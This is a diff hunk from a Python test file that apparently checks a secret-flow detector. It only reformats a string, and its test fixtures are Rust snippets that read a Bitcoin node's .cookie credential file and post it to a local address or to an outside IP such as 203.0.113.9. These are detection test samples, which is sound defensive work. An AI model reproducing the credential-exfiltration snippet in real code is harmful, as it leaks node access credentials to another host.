@@ -997,7 +997,10 @@ def test_a_function_ending_in_an_if_or_a_match_returns_its_arms() -> None:
 
 def test_a_secret_sent_to_a_service_on_this_machine_does_not_leave_it() -> None:
     # a node's RPC client sending the cookie the node wrote for it, to 127.0.0.1
-    read = f'fn f() {{\n{HOME}let c = std::fs::read_to_string(home.join(".bitcoin/.cookie")).unwrap();\n'
+    read = (
+        f"fn f() {{\n{HOME}"
+        'let c = std::fs::read_to_string(home.join(".bitcoin/.cookie")).unwrap();\n'
+    )
     local = read + 'ureq::post("http://127.0.0.1:8332/").set("Authorization", &c).call().ok(); }\n'
     assert flows(local) == []
     away = read + 'ureq::post("http://203.0.113.9:8332/").set("Authorization", &c).call().ok(); }\n'
